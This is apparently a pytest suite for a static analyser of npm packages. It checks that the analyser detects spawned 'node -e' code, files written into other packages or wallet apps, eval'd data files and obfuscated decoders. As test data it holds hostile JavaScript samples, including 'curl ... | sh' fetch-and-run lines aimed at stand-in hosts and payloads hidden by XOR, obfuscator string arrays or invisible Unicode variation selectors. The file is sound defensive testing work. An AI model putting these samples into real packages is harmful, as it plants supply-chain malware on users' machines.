"""Code in strings and data (issue 10 item 6): `node -e` spawns, files written, package files compiled, and
the decoders the resolver folds (the bounded interpreter, javascript-obfuscator string arrays)."""

from __future__ import annotations

import base64
import json

import pytest

from airlock.analysis import analyze
from airlock.analysis.capabilities import FileCapabilities, analyze_source
from airlock.analysis.capabilities.state import FileWrite
from airlock.analysis.facts import Reach
from airlock.analysis.js import Dialect, parse
from airlock.analysis.resolve import Num, Resolver, Steps, Str
from airlock.analysis.resolve.builtins import GLOBAL_FUNCTIONS
from airlock.analysis.resolve.interpret import MAX_FILE_STEPS, MAX_RUN_STEPS
from airlock.analysis.rules.tampering import application, other_package
from airlock.contents import read_tarball
from airlock.model import Evidence
from tests.fakes.tarballs import build_package
from tests.incidents.replicas.strings import (
    _string_array_base64_payload,
    _string_array_payload,
    _string_array_v2_payload,
)


def scan(source: str) -> FileCapabilities:
    return analyze_source("x.js", source.encode(), Dialect.JAVASCRIPT)


def commands(source: str) -> list[str]:
    return [c for _, c in scan(source).commands]


# ---- node -e ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "require('child_process').spawn('node', ['-e', \"require('https').get('https://a.invalid')\"])",
        "require('child_process').spawn(process.execPath, ['--eval', \"require('https').get('u')\"])",
        "require('child_process').execFileSync(process.execPath, ['-p', \"require('https').get('u')\"])",
        "require('child_process').execSync(\"node -e \\\"require('https').get('u')\\\"\")",
        "const { spawnSync } = require('child_process'); spawnSync('/usr/bin/node', ['-pe', \"require('https')\"])",
    ],
)
def test_node_eval_code_of_a_spawn_is_analysed(source: str) -> None:
    found = scan(source)
    assert any(key.startswith("https") for key in found.builtin), found.builtin
    assert found.evaluated_code


def test_worker_eval_code_is_analysed() -> None:
    found = scan(
        "const { Worker } = require('worker_threads');\n"
        "new Worker(\"require('child_process').exec('id')\", { eval: true });\n"
        "new Worker(\"require('child_process').exec('never')\");\n"
    )
    assert [c for _, c in found.commands] == ["id"]


def test_a_script_argument_is_not_code() -> None:
    found = scan("require('child_process').spawn('node', ['script.js', '-e', \"require('https')\"])")
    assert not any(key.startswith("https") for key in found.builtin)


def test_unresolved_node_eval_code_is_a_sink() -> None:
    found = scan(
        "const p = Buffer.from(x, 'base64').toString(); require('child_process').spawn('node', ['-e', p])"
    )
    assert [s.kind for s in found.sinks] == ["node -e"]
    assert "decode" in found.sinks[0].origins
    assert found.dynamic


def test_exec_path_spawn_of_a_file_is_not_code() -> None:
    assert commands("require('child_process').spawn(process.execPath, ['lib/run.js'])") == []


# ---- files written ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "path"),
    [
        ("fs.writeFileSync(path.join(__dirname, 'a', 'b.js'), '')", "<dir>/a/b.js"),
        ("fs.writeFileSync(path.join(__dirname, '..', 'x', 'y.js'), '')", "<dir>/../x/y.js"),
        (
            "fs.appendFileSync(path.join(path.dirname(require.resolve('ethers')), 'p.js'), '')",
            "<pkg:ethers>/p.js",
        ),
        ("fs.writeFileSync(require.resolve('@scope/pkg/lib/a.js'), '')", "<pkg:@scope/pkg>/lib/a.js"),
        ("fs.writeFileSync(path.join(os.homedir(), '.bashrc'), '')", "~/.bashrc"),
        ("fs.writeFileSync(process.env.APPDATA + '/x/app.asar', '')", "%APPDATA%/x/app.asar"),
        ("fs.writeFileSync(`${process.cwd()}/node_modules/a/b.js`, '')", "<cwd>/node_modules/a/b.js"),
        (
            "fs.copyFileSync(src, path.resolve('/opt', 'app', 'resources', 'app.asar'))",
            "/opt/app/resources/app.asar",
        ),
        ("fs.writeFileSync(target, '')", "<?>"),
    ],
)
def test_written_paths_fold(source: str, path: str) -> None:
    found = scan("const fs = require('fs'), path = require('path'), os = require('os');\n" + source)
    assert [w.path for w in found.writes if not w.named] == [path]


def test_code_written_to_a_js_file_is_analysed() -> None:
    found = scan(
        "const fs = require('fs');\n"
        "fs.writeFileSync('out.js', \"require('child_process').exec('whoami')\");\n"
        "fs.writeFileSync('notes.txt', 'Run it (twice) to be sure.');\n"
        "fs.writeFileSync('data.json', JSON.stringify({ a: 1 }));\n"
    )
    assert [c for _, c in found.commands] == ["whoami"]
    assert [w.code for w in found.writes] == [True, False, False]


def test_code_written_through_a_stream_is_analysed() -> None:
    found = scan(
        "const fs = require('fs');\n"
        "const out = fs.createWriteStream(__dirname + '/run.js');\n"
        "out.write(\"require('child_process').exec('whoami');\");\nout.end();\n"
        "fs.createWriteStream('b.cjs').end(\"require('child_process').exec('id')\");\n"
    )
    assert sorted(c for _, c in found.commands) == ["id", "whoami"]
    assert [w.code for w in found.writes] == [True, True]


def test_code_written_under_any_name_is_analysed_when_it_reads_as_code() -> None:
    found = scan("require('fs').writeFileSync(p, \"const cp = require('child_process'); cp.exec('id')\")")
    assert [c for _, c in found.commands] == ["id"]


@pytest.mark.parametrize(
    ("path", "writer", "other"),
    [
        ("<pkg:ethers>/providers/x.js", "install.js", "ethers"),
        ("<dir>/../web3/lib/index.js", "install.js", "web3"),
        ("<dir>/../../web3/lib/index.js", "scripts/install.js", "web3"),
        ("<dir>/../@scope/pkg/index.js", "install.js", "@scope/pkg"),
        ("<cwd>/node_modules/lodash/index.js", "install.js", "lodash"),
        ("<dir>/../dist/index.js", "scripts/build.js", None),
        ("<dir>/lib/main.js", "install.js", None),
        ("<pkg:self>/lib/main.js", "install.js", None),
        ("<cwd>/node_modules/.cache/tool/x", "install.js", None),
        ("<dir>/../..", "install.js", None),
        ("%INIT_CWD%/node_modules/@swc/wasm", "postinstall.js", None),
        ("%INIT_CWD%/node_modules/@swc/wasm/index.js", "postinstall.js", "@swc/wasm"),
        ("../other/index.js", "lib/install.js", "other"),
        ("lib/x.js", "install.js", None),
    ],
)
def test_other_package_directories(path: str, writer: str, other: str | None) -> None:
    assert other_package(FileWrite(Evidence(writer, 1), path, False), writer, "self") == other


@pytest.mark.parametrize(
    ("path", "reach", "expected"),
    [
        ("%LOCALAPPDATA%/Programs/atomic/resources/app.asar", Reach.LIBRARY, True),
        ("/Applications/Exodus.app/Contents/Resources/app.asar", Reach.LOAD, True),
        ("~/.vscode/extensions/x/extension.js", Reach.LIBRARY, True),
        ("<?>/resources/app.asar", Reach.INSTALL, True),
        ("<?>/resources/app.asar", Reach.LIBRARY, False),
        ("<dir>/dist/resources/app/main.js", Reach.LOAD, False),
        ("<dir>/lib/app.js", Reach.INSTALL, False),
    ],
)
def test_application_locations(path: str, reach: Reach, expected: bool) -> None:
    assert application(FileWrite(Evidence("x.js", 1), path, False), reach) is expected


# ---- package files compiled ---------------------------------------------------------------------------


def _package(files: dict[str, str | bytes], **manifest: object) -> list[str]:
    data = build_package("compiles", "1.0.0", files, **manifest)
    return sorted({f.rule for f in analyze(read_tarball(data, subject="compiles")).findings})


def test_compiled_json_member_is_analysed_with_the_compilers_reach() -> None:
    rules = _package(
        {
            "index.js": "require('vm').runInThisContext(require('./data.json').code);\n",
            "data.json": json.dumps(
                {"code": "require('child_process').exec('curl -s http://203.0.113.1/x | sh')"}
            ),
        },
        scripts={"postinstall": "node index.js"},
    )
    assert "compiled-data-file" in rules
    assert "shell-fetch-and-run" in rules


def test_compiled_js_file_takes_the_compilers_reach_without_a_concealment_finding() -> None:
    rules = _package(
        {
            "index.js": "const fs = require('fs');\neval(fs.readFileSync(__dirname + '/lib/x.js', 'utf8'));\n",
            "lib/x.js": "require('child_process').exec('curl -s http://203.0.113.1/x | sh');\n",
        },
        scripts={"postinstall": "node index.js"},
    )
    assert "compiled-data-file" not in rules
    assert "shell-fetch-and-run" in rules


def test_a_missing_compiled_file_is_not_a_finding() -> None:
    rules = _package({"index.js": "eval(require('fs').readFileSync('./gone.txt', 'utf8'));\n"})
    assert "compiled-data-file" not in rules


# ---- decoders --------------------------------------------------------------------------------------


def _xor_escaped(text: str, key: int) -> str:
    return "".join(f"\\x{ord(c) ^ key:02x}" for c in text)


@pytest.mark.parametrize(
    "helper",
    [
        # XOR loop with an accumulator
        "function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) { o += String.fromCharCode("
        "s.charCodeAt(i) ^ k); } return o; }",
        # while loop, array of codes joined
        "function d(s, k) { var out = [], i = 0; while (i < s.length) { out.push(s.charCodeAt(i++) ^ k); } "
        "return String.fromCharCode.apply(null, out); }",
        # arrow with a block body and a reassigned parameter
        "const d = (s, k) => { var r = ''; for (var i = s.length - 1; i >= 0; i--) { r = String.fromCharCode("
        "s.charCodeAt(i) ^ k) + r; } return r; };",
    ],
)
def test_loop_decoders_fold(helper: str) -> None:
    source = f"{helper}\nrequire(d('{_xor_escaped('child_process', 5)}', 5)).exec(d('{_xor_escaped('id', 5)}', 5));"
    assert commands(source) == ["id"]


def test_char_code_shift_and_reversed_base64_fold() -> None:
    shifted = "".join(chr(ord(c) + 3) for c in "child_process")
    reversed_b64 = base64.b64encode(b"whoami").decode()[::-1]
    source = (
        "function u(s){ var o=''; for (var i=0;i<s.length;i++) o+=String.fromCharCode(s.charCodeAt(i)-3); return o }\n"
        f"require(u('{shifted}')).exec(atob('{reversed_b64}'.split('').reverse().join('')));"
    )
    assert commands(source) == ["whoami"]


@pytest.mark.parametrize(
    "helper",
    [
        "function d(s) { g = s; return s; }",  # writes outside the function
        "function d(s) { if (Math.random() > 0.5) return s; return ''; }",  # branch on an unknown
        "function d(s) { const o = {}; o.x = s; return o.x; }",  # object literals are not modelled
    ],
)
def test_impure_or_unknown_helpers_do_not_fold(helper: str) -> None:
    assert commands(f"{helper}\nrequire('child_process').exec(d('id'));") == []


def test_endless_helper_stops_at_its_budget() -> None:
    found = scan(
        "function d(s) { while (true) { s += 'a'; } return s; }\nrequire('child_process').exec(d('x'));"
    )
    assert found.commands == ()
    assert found.steps >= MAX_RUN_STEPS
    assert found.steps < MAX_FILE_STEPS * 3
    assert not found.skipped


def test_interpretation_is_deterministic() -> None:
    source = _string_array_v2_payload()
    first, second = scan(source), scan(source)
    assert first.steps == second.steps
    assert first.commands == second.commands


@pytest.mark.parametrize(
    "payload", [_string_array_payload, _string_array_base64_payload, _string_array_v2_payload]
)
def test_obfuscator_string_arrays_fold(payload: object) -> None:
    assert callable(payload)
    found = scan(payload())
    assert "child_process.exec" in found.builtin
    assert any("203.0.113.9" in c for c in commands(payload()))


def test_an_array_whose_rotation_cannot_run_is_not_folded_in_stored_order() -> None:
    source = (
        "var a = ['exec', 'child_process'];\n"
        "(function (arr, n) { while (--n) { arr.push(arr.shift()); if (unknown()) break; } })(a, 3);\n"
        "require(a[0]);\n"
    )
    assert "exec" not in {k.split(".")[0] for k in scan(source).builtin}


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ([Str("42px")], 42.0),
        ([Str("0x1f")], 31.0),
        ([Str("-7")], -7.0),
        ([Str("ff"), Num(16)], 255.0),
    ],
)
def test_parse_int(args: list[Str | Num], expected: float) -> None:
    value = GLOBAL_FUNCTIONS["parseInt"](list(args))
    assert value == Num(expected)


def test_nan_folds_as_text_without_crashing() -> None:
    assert commands("require('child_process').exec(`id ${parseInt('x')}`)") == ["id NaN"]


def test_parse_int_of_text_is_nan() -> None:
    value = GLOBAL_FUNCTIONS["parseInt"]([Str("abc")])
    assert isinstance(value, Num)
    assert value.value != value.value


def test_string_minus_number_is_numeric() -> None:
    source = b"const x = '0x10' - 0;"
    tree = parse(source, Dialect.JAVASCRIPT).tree
    resolver = Resolver(source, tree.root_node, Steps(10_000))
    declarator = tree.root_node.named_children[0].named_children[0]
    value = declarator.child_by_field_name("value")
    assert value is not None
    assert resolver.evaluate(value) == Num(16.0)


def test_obfuscator_v2_self_replacing_base64_accessor_folds() -> None:
    def enc(text: str) -> str:
        return base64.b64encode(text.encode()).decode().swapcase()

    array = ",".join(json.dumps(enc(s)) for s in ["child_process", "exec", "whoami"])
    source = (
        f"function _0xa(){{var _0xs=[{array}];_0xa=function(){{return _0xs;}};return _0xa();}}"
        "function _0xb(_0x1,_0x2){var _0x3=_0xa();return _0xb=function(_0x4,_0x5){_0x4=_0x4-0x7b;"
        "var _0x6=_0x3[_0x4];if(_0xb['kQzXyW']===undefined){var _0x7=function(_0x8){"
        "var _0x9='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';return _0x8;};"
        "_0xb['aBcDeF']=_0x7;_0xb['kQzXyW']=!![];}return _0xb['aBcDeF'](_0x6);},_0xb(_0x1,_0x2);}"
        "const _0xc=_0xb;require(_0xc(0x7b))[_0xc(0x7c)](_0xc(0x7d));"
    )
    assert commands(source) == ["whoami"]


def _hidden(code: str) -> str:
    return "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in code.encode())


def test_code_hidden_in_variation_selectors_is_decoded_and_analysed() -> None:
    from airlock.analysis.capabilities import analyze_source
    from airlock.analysis.capabilities.scanner import decode_variation_selectors
    from airlock.analysis.js import Dialect

    payload = "require('child_process').exec('curl -s https://stage.invalid/x | sh')"
    assert decode_variation_selectors(_hidden(payload).encode()) == payload.encode()
    source = f"const s = `{_hidden(payload)}`;\nmodule.exports = s;\n"
    caps = analyze_source("index.js", source.encode(), Dialect.JAVASCRIPT)
    assert "child_process.exec" in caps.builtin
    assert any(s.indicator.value == "invisible" for s in caps.signals)


def test_emoji_variation_selectors_are_text() -> None:
    from airlock.analysis.capabilities import analyze_source
    from airlock.analysis.js import Dialect

    source = "module.exports = '" + "\u2764\ufe0f \u263a\ufe0f " * 40 + "';\n"
    caps = analyze_source("index.js", source.encode(), Dialect.JAVASCRIPT)
    assert not caps.evaluated_code and not any(s.indicator.value == "invisible" for s in caps.signals)
